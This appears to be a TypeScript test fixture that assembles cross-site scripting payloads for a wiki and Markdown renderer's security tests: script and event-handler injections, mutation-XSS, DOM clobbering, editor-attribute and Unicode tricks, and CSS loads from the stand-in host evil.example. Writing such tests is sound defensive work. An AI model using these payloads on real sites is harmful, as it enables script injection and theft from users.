/**
 * Ways in which people have tried to make a page run a script or fetch something, by their position: kinds of payloads combined
 * with positions in a text, and separate lists for other attacks. Each tries to call `xss()` or to request `evil.example`.
 */

import { readFileSync } from 'node:fs'
import { markdownVectors, xssVectors } from '../wikitext/xss-vectors.ts'

/** A published list, with one attack per line, instead of ours; null if none is given. */
export const givenAttacks: readonly string[] | null =
  process.env.WIKI_PROOF_VECTORS === undefined ? null : linesOf(readFileSync(process.env.WIKI_PROOF_VECTORS, 'utf8'))

function linesOf(text: string): readonly string[] {
  return unique(text.split(/\r?\n/)).filter(line => line.trim() !== '')
}

/** Payloads that HTML would run or load wherever it is accepted. */
export const payloads: readonly string[] = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '"><svg onload=xss()>',
  "'><img src=//evil.example/x.png>",
  '<a href="javascript:xss()">x</a>',
  '<style>@import "//evil.example/x.css";</style>',
  '" onmouseover="xss()" x="',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  '</textarea></title></style></script><script>xss()</script>',
  '<b style="background:url(//evil.example/x.png)" onclick=xss()>x</b>',
]

/** Positions of a text in wikitext; `@` is the payload. */
const places: readonly string[] = [
  '{{Say|1=@}}',
  '{{Say|1=<nowiki>@</nowiki>}}',
  '{{{missing|@}}}',
  '{{#if:x|@}}',
  '{{#ifeq:@|@|@}}',
  '{{#switch:x|x=@|#default=@}}',
  '{{lc:@}}{{uc:@}}{{ucfirst:@}}',
  '{{urlencode:@}}{{anchorencode:@}}{{fullurl:@}}',
  '{{#tag:ref|@|name=@}}{{#tag:references}}',
  '{{#tag:pre|@|style=@}}',
  '{{#expr:@}}{{#time:@|@}}',
  '{{DEFAULTSORT:@}}{{DISPLAYTITLE:@}}[[Category:@]]',
  '[[Tide|@]] [[@]]',
  '[https://a.example/@ @]',
  '[[File:Tide.svg|thumb|alt=@|link=@|@]]',
  '<gallery caption="@" widths="@">\nFile:Tide.svg|alt=@|@\n@|x\n</gallery>',
  '{| class="@" style="@"\n|+ @\n! title="@" | @\n|-\n| @ || @\n|}',
  '== @ ==\n== x ==\n== y ==\n== z ==',
  '* @\n: @\n; @ : @\n#REDIRECT [[@]]',
  '<div id="@" class=\'@\' title=@ data-x="@" lang="@">x</div>',
  '<ref name="@" group="@">@</ref><references group="@" />',
  '<poem>@</poem><pre>@</pre><nowiki>@</nowiki>',
  '<syntaxhighlight lang="@">@</syntaxhighlight>',
  '<templatedata>{"description":"@"}</templatedata><indicator name="@">@</indicator>',
  "''@'''@''@''''' -{@}- -{zh:@;en:@}-",
  '<includeonly>@</includeonly><onlyinclude>@</onlyinclude><section begin="@" />',
]

/** Text that is harmless when parsed once, and active when a browser parses the output. */
const mutations: readonly string[] = [
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  '<math></br><style><a title="</style><img src=1 onerror=xss()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=xss()></style>',
  '<svg><desc><style><img src=x onerror=xss()></style></desc></svg>',
  '<svg><title><style><!--</style><img src=x onerror=xss()>--></title></svg>',
  '<noembed><p title="</noembed><img src=x onerror=xss()>">',
  '<noframes><p title="</noframes><img src=x onerror=xss()>">',
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  '<plaintext><img src=x onerror=xss()>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=xss()>">',
  '<table><td><select><style></table><img src=x onerror=xss()></style>',
  '<p title="`><img src=x onerror=xss()>`">x</p>',
  '<p title="&quot;&gt;&lt;img src=x onerror=xss()&gt;">x</p>',
  '<p title="</p><!-- --><img src=x onerror=xss()>">x</p>',
  '<span title="\u0000"><img src=x onerror=xss()>"></span>',
  '<ruby><rt><svg><rp><style><img src=x onerror=xss()></style>',
  '<li><table><caption><a><table><a href="javascript:xss()">x',
  '<b><p><a><b><p title="</b><img src=x onerror=xss()>"></a>',
  '<pre>\n\n<textarea></pre><img src=x onerror=xss()></textarea>',
]

/** Names that would shadow a browser's own. */
const clobbering: readonly string[] = [
  '<a id="cookie">x</a><a id="cookie" name="cookie">x</a>',
  '<span id="body">x</span>',
  '<div id="getElementById">x</div>',
  '<div id="querySelectorAll" name="querySelectorAll">x</div>',
  '<img name="links"><img id="links">',
  '<form name="defaultView"><input name="attributes"></form>',
  '<form id="document"><output id="body"></form>',
  '<object name="createElement"></object>',
  '<embed name="head">',
  '<iframe name="cookie" srcdoc="<script>parent.xss()</script>"></iframe>',
  '[[File:Tide.svg|class=cookie|alt=name=cookie]]',
  '== cookie ==\n== body ==\n== __proto__ ==\n== constructor ==',
]

/** Payloads in the attributes of editors, and those that the conversion back to wikitext could activate. */
const editorsMarks: readonly string[] = [
  '<span typeof="mw:Nowiki">&lt;script&gt;xss()&lt;/script&gt;</span>',
  '<span typeof="mw:Nowiki"><script>xss()</script></span>',
  '<span typeof="mw:Transclusion" about="#mwt1" data-mw=\'{"parts":["<script>xss()</script>"]}\'>x</span>',
  '<p typeof="mw:Transclusion" data-mw=\'{"parts":[{"template":{"target":{"wt":"Say"},"params":{"1":{"wt":"<img src=x onerror=xss()>"}}}}]}\'>x</p>',
  '<div typeof="mw:Extension/ref" data-mw=\'{"name":"ref","body":{"html":"<img src=x onerror=xss()>"}}\'>x</div>',
  '<div typeof="mw:Extension/html" data-mw=\'{"name":"html","body":{"extsrc":"<script>xss()</script>"}}\'>x</div>',
  '<div typeof="mw:Extension/script" data-mw=\'{"name":"script","attrs":{},"body":{"extsrc":"xss()"}}\'>x</div>',
  '<figure typeof="mw:File/Thumb"><a href="javascript:xss()"><img resource="./File:Tide.svg" src="//evil.example/x.png"></a><figcaption><img src=x onerror=xss()></figcaption></figure>',
  '<a rel="mw:WikiLink" href="javascript:xss()">x</a>',
  '<a rel="mw:WikiLink" href="./Tide&quot; onclick=&quot;xss()">x</a>',
  '<a rel="mw:ExtLink" href="javascript:xss()">x</a>',
  '<a rel="mw:ExtLink" href="https://a.example/]<img src=x onerror=xss()>">x</a>',
  '<link rel="mw:PageProp/Category" href="./Category:X#<img src=x onerror=xss()>">',
  '<meta property="mw:PageProp/displaytitle" content="<img src=x onerror=xss()>">',
  '<meta typeof="mw:Param" data-parsoid=\'{"src":"<script>xss()</script>"}\'>',
  '<span data-parsoid=\'{"src":"<script>xss()</script>"}\' typeof="mw:Placeholder">x</span>',
  '<span typeof="mw:LanguageVariant" data-mw-variant=\'{"twoway":[{"l":"zh","t":"<img src=x onerror=xss()>"}]}\'></span>',
  '<p data-mw=\'{"attribs":[["onclick",{"html":"xss()"}]]}\' onclick="xss()">x</p>',
  '<b data-parsoid=\'{"dsr":[0,9,1,1],"stx":"html","a":{"onclick":"xss()"}}\'>x</b>',
  '<section data-mw-section-id="0" onclick="xss()"><script>xss()</script></section>',
  '<ol class="mw-references" typeof="mw:Extension/references" data-mw=\'{"name":"references","body":{"html":"<svg onload=xss()>"}}\'><li>x</li></ol>',
]

/** Tricks with characters: markup to one reader, but not to another. */
const letters: readonly string[] = [
  '＜script＞xss()＜/script＞',
  '\u02b9onclick\u02b9=xss()',
  '<ſcript>xss()</ſcript>',
  '<İmg src=x onerror=xss()>',
  '<\u200bscript>xss()</\u200bscript>',
  '<script\u2028>xss()</script>',
  '<img\u000csrc=x\u000conerror=xss()>',
  '<img\u00a0src=x onerror=xss()>',
  '<a href="\u2028javascript:xss()">x</a>',
  '[javascript&#58;xss() x] [javascript\u00ad:xss() x] [JAVASCRIPT:xss() x]',
  '[//evil.example/x.png] http://evil.example/x.png https://evil.example/x.svg',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '\ud83d\ude00<script>xss()</script>\u202e',
  '<!--\u0000--><script>xss()</script>',
  '&lt\u003bscript&gt\u003bxss()&lt;/script>',
  '&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;',
]

/** Styles that load or run something, and styles that hide this. */
const styles: readonly string[] = [
  'background:url(//evil.example/x.png)',
  'background:u\\72l(//evil.example/x.png)',
  'background:ur/**/l(//evil.example/x.png)',
  'background:URL("//evil.example/x.png")',
  'background:image-set("//evil.example/x.png" 1x)',
  'background:-webkit-image-set(url(//evil.example/x.png) 1x)',
  'background:cross-fade(url(//evil.example/x.png),red)',
  'list-style:url(//evil.example/x.png)',
  'cursor:url(//evil.example/x.cur),auto',
  'content:url(//evil.example/x.png)',
  'border-image:url(//evil.example/x.png)',
  'mask-image:url(//evil.example/x.svg#m)',
  'filter:url(//evil.example/x.svg#f)',
  'clip-path:url(//evil.example/x.svg#c)',
  'shape-outside:url(//evil.example/x.png)',
  '--x:url(//evil.example/x.png);background:var(--x)',
  'width:expression(xss())',
  'behavior:url(#default#time2)',
  '-moz-binding:url(//evil.example/x.xml#a)',
  'offset-path:url(//evil.example/x.svg#p)',
  'background:src("//evil.example/x.png")',
  'background:url(//evil.example/x.png',
  "background:'\\' url(//evil.example/x.png)",
  'color:red;}*{background:url(//evil.example/x.png)}',
]

/** Attacks in wikitext: a text, saved as a page. */
export const wikitextAttacks: readonly string[] =
  givenAttacks ??
  unique([
    ...xssVectors.flatMap(group => group.texts),
    ...places.flatMap((place, at) => pick(payloads, at).map(payload => place.replaceAll('@', () => payload))),
    ...styles.map(style => `<div style="${style.replaceAll('"', '&quot;')}">x</div>`),
    ...styles.map(style => `{| style="${style.replaceAll('"', '&quot;')}"\n| x\n|}`),
    ...mutations,
    ...clobbering,
    ...editorsMarks,
    ...letters,
  ])

function unique(texts: readonly string[]): readonly string[] {
  return [...new Set(texts)]
}

/** Every second payload for each place, the others for the next one. */
function pick(from: readonly string[], at: number): string[] {
  return from.filter((_, index) => (index + at) % 2 === 0)
}

/** Attacks in pages of Markdown. */
export const markdownAttacks: readonly string[] =
  givenAttacks ??
  unique([
    ...markdownVectors,
    ...payloads,
    ...payloads.flatMap(payload => [
      `[x](${payload})`,
      `[x](<${payload}>)`,
      `![${payload}](x.png)`,
      `> - **${payload}**`,
    ]),
    ...payloads.map(payload => `| a |\n|---|\n| ${payload} |\n\n\`\`\`${payload}\n${payload}\n\`\`\``),
  ])

/** Names that a page, a file, a template, a category may have. */
export const nameAttacks: readonly string[] = [
  'X" onclick="xss()',
  "X' onmouseover='xss()",
  '"onfocus=xss() autofocus="',
  'X&lt;script&gt;xss()&lt;&#47;script&gt;',
  'X&quot; onclick=&quot;xss()',
  'Javascript:xss()',
  'Data:text&#47;html,x',
  '//evil.example/x.png',
  'X" style="background:url(//evil.example/x.png)',
  '`onclick=xss()`',
  'X\u2028xss()',
  "X');xss();//",
  'X\\" onclick=xss() \\"',
  'X＜script＞xss()',
  'X --!&gt;',
  '$1 $& $` $2',
  'Constructor',
  '__proto__',
  'X?action=xss&html',
]

/** Names of people, edit summaries, search terms, names of sites: any text of one line. */
export const lineAttacks: readonly string[] = [
  ...payloads,
  ...nameAttacks,
  '{{Say|1=<script>xss()</script>}}',
  '[[X]]<script>xss()</script>[https://evil.example x]',
  '</span><script>xss()</script><span class="searchmatch">',
  'X/../../evil',
  'insource:/<script>xss()/',
  '<span class="searchmatch"><img src=x onerror=xss()></span>',
  '\u001b]0;xss\u0007<script>xss()</script>',
]

/** The attacks in pages as texts of one line. */
export const moreLines: readonly string[] = unique(
  [...wikitextAttacks, ...markdownAttacks].map(text =>
    text
      .replace(/[\0-\x1f\x7f]+/g, ' ')
      .trim()
      .slice(0, 200),
  ),
).filter(line => line !== '' && !lineAttacks.includes(line))

/** The attacks that a title may contain. */
export const moreNames: readonly string[] = unique(
  moreLines.map(line =>
    line
      .replace(/[<>[\]{}|#_]|~~~+/g, '')
      .replace(/\s+/g, ' ')
      .slice(0, 60)
      .trim(),
  ),
).filter(name => /["'`=:;()&]/.test(name) && !nameAttacks.includes(name))
